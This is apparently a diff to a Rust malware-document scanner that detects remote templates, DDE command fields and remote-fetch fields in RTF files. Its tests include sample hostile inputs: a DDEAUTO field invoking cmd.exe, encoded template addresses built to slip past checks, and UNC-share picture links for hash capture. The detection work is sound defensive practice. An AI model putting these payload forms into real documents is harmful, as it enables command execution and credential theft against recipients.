@@ -45,6 +45,8 @@ const HOLDERS: &[&str] = &[
     "fodt",
     "rtf",
 ];
+/// Fields of one document that are looked at.
+const MOST_FIELDS: usize = 1_000;
 /// Scripts that Windows runs when they are opened.
 const OPENED: &[&str] =
     &["js", "jse", "vbs", "vbe", "wsf", "wsh", "sct", "hta", "ps1", "bat", "reg", "inf", "msc", "msbuild"];
@@ -57,8 +59,15 @@ patterns! {
     DATA = r"\\objdata";
     // Words and groups that readers skip between the digits of an object.
     NOISE = r"\\bin[0-9]{1,8}|\\'[0-9a-f]{2}|\\\*|\\[a-z]{1,32}-?[0-9]{0,10}";
+    // Rich Text 1.9.1: the template that is attached; its address may be written in character codes.
+    TEMPLATE = r"\\\*\\template\b\s*(?P<place>[^{}]{1,600})";
+    FIELD = r"\\fldinst\b(?P<code>[^\x00]{1,1200})";
+    FIELD_COMMAND = r#"^[^a-z]{0,40}(?:dde(?:auto)?)\s+(?P<rest>[^\r\n]{1,300})"#;
+    FIELD_FETCH = r#"^[^a-z]{0,40}(?:includepicture|includetext|import|include|link)\s+(?:[a-z.0-9]{1,40}\s+)?["']?\s*(?P<place>(?:https?:|ftp:|file:|\\{2,4}[a-z0-9])[^"'{}\r\n]{1,300})"#;
+    CONTROL = r"\\[a-z]{1,32}-?[0-9]{0,10} ?|[{}\r\n]";
+    CHARACTER = r"\\'(?P<byte>[0-9a-f]{2})|\\u(?P<unit>-?[0-9]{1,6})(?: ?\?|\\'[0-9a-f]{2})?";
     // A formula with a DDE link, `program|'topic'!item`, or the function of LibreOffice.
-    DDE_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}[=+@-][^\r\n]{0,200}?(?:\b[a-z][a-z0-9_.]{1,30}\|\s*'[^'\r\n]{1,300}'\s*!|\bdde\s*\(\s*["'])"#;
+    DDE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@-][^\r\n]{0,200}?(?:\b[a-z][a-z0-9_.]{1,30}\|\s*'[^'\r\n]{1,300}'\s*!|\bdde\s*\(\s*["'])"#;
     // 0002ce02-0000-0000-c000-000000000046 as stored, and `Equation.2` or `Equation.3` as a class name.
     EQUATION = r"02ce020000000000c000000000000046|[46]5[57]1[57]5[46]1[57]4[46]9[46]f[46]e2e3[23]";
 }
@@ -92,6 +101,7 @@ impl Detector for Documents {
             return Ok(());
         }
         let text: String = bytes.iter().map(|b| char::from(b.to_ascii_lowercase())).collect();
+        fetched(&text, findings);
         let first = OBJECT.find(&text);
         let objects = first.and_then(|first| text.get(first.start()..)).unwrap_or_default();
         let digits: String = NOISE.replace_all(objects, "").chars().filter(char::is_ascii_hexdigit).collect();
@@ -133,9 +143,50 @@ impl Detector for Documents {
     }
 }
 
+/// What a Rich Text document has fetched or run by its template and its fields.
+fn fetched(text: &str, findings: &mut Findings) {
+    if let Some(place) = TEMPLATE.captures(text).and_then(|found| found.name("place")) {
+        let place = plain(place.as_str());
+        if ["http:", "https:", "ftp:", "file:", "\\\\"].iter().any(|start| place.trim_start().starts_with(start)) {
+            let message = "the document attaches a template from another machine when it is opened";
+            findings.add(finding("document.remote-template", Severity::High, message, &place).technique("T1221"));
+        }
+    }
+    let codes = FIELD.captures_iter(text).filter_map(|found| found.name("code")).take(MOST_FIELDS);
+    for code in codes.map(|code| plain(code.as_str())) {
+        if let Some(command) = FIELD_COMMAND.captures(&code).and_then(|found| found.name("rest")) {
+            let message = "a field of the document asks another program to run a command (DDE)";
+            findings
+                .add(finding("document.dde-field", Severity::High, message, command.as_str()).technique("T1559.002"));
+        } else if let Some(place) = FIELD_FETCH.captures(&code).and_then(|found| found.name("place")) {
+            // Names of shares are asked for with the password's hash; addresses of the web only tell that it was read.
+            let share = !place.as_str().starts_with("http");
+            let severity = if share { Severity::High } else { Severity::Low };
+            let message = "a field of the document fetches what it shows from another machine";
+            findings.add(finding("document.remote-field", severity, message, place.as_str()).technique("T1187"));
+        }
+    }
+}
+
+/// Rich Text without its control words, with characters in place of their codes, lower case.
+fn plain(text: &str) -> String {
+    let text = CHARACTER.replace_all(text, |found: &regex::Captures<'_>| {
+        let byte = found.name("byte").and_then(|byte| u32::from_str_radix(byte.as_str(), 16).ok());
+        // Units above 32767 are written as negative numbers.
+        let unit =
+            || found.name("unit").and_then(|unit| unit.as_str().parse::<i32>().ok()).map(|unit| (unit & 0xffff) as u32);
+        byte.or_else(unit).and_then(char::from_u32).map(String::from).unwrap_or_default()
+    });
+    // Two backslashes stand for one; put aside while words are dropped.
+    let text = text.replace("\\\\", "\u{1}");
+    CONTROL.replace_all(&text, "").replace('\u{1}', "\\").to_lowercase()
+}
+
 /// Tables as text, which spreadsheets open by their names.
 fn table(part: &Part) -> bool {
-    part.is("csv") || part.is("text") && matches!(&*part.extension(), "csv" | "tsv" | "tab" | "slk" | "dif" | "xls")
+    part.is("csv")
+        || (part.is("text") || part.is("html"))
+            && matches!(&*part.extension(), "csv" | "tsv" | "tab" | "slk" | "dif" | "xls")
 }
 
 /// The class of the equation editor as bytes.
@@ -187,6 +238,36 @@ mod tests {
             ("{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}", &[]),
             ("{\\rtf1 Equation.3 is old, 02CE020000000000C000000000000046}", &[]),
             ("{\\rtf1 \\\\objupdate alone}", &[]),
+        ] {
+            check(&Documents, "rtf", text, expected);
+        }
+    }
+
+    #[test]
+    fn templates_and_fields_are_judged_by_where_they_lead() {
+        const TEMPLATE: &str = "document.remote-template high";
+        for (text, expected) in [
+            (r"{\rtf1{\*\template http://host.invalid/a.dotm}}", &[TEMPLATE][..]),
+            (r"{\rtf1{\*\template \'68\'74\'74\'70://host.invalid/a}}", &[TEMPLATE]),
+            (r"{\rtf1{\*\template \u-65432?\u104 ?\u116?\u116?ps://host.invalid}}", &[]),
+            (r"{\rtf1{\*\template \u104?\u116?\u116?ps://host.invalid}}", &[TEMPLATE]),
+            (r"{\rtf1{\*\template \\\\host.invalid\\a.dotm}}", &[TEMPLATE]),
+            (r"{\rtf1{\*\template C:\\Templates\\letter.dot}}", &[]),
+            (
+                r#"{\rtf1{\field{\*\fldinst{ DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"}}}}"#,
+                &["document.dde-field high"],
+            ),
+            (r#"{\rtf1{\field{\*\fldinst{\rtlch DDE}{AUTO cmd "/k"}}}}"#, &["document.dde-field high"]),
+            (
+                r#"{\rtf1{\field{\*\fldinst{ INCLUDEPICTURE "http://host.invalid/a" \\\\d}}}}"#,
+                &["document.remote-field low"],
+            ),
+            (
+                r#"{\rtf1{\field{\*\fldinst{ INCLUDEPICTURE "\\\\\\\\host.invalid\\\\a.png"}}}}"#,
+                &["document.remote-field high"],
+            ),
+            (r#"{\rtf1{\field{\*\fldinst{ HYPERLINK "https://host.invalid/" }}}}"#, &[]),
+            (r"{\rtf1 the words template http://host.invalid and DDEAUTO in prose}", &[]),
         ] {
             check(&Documents, "rtf", text, expected);
         }
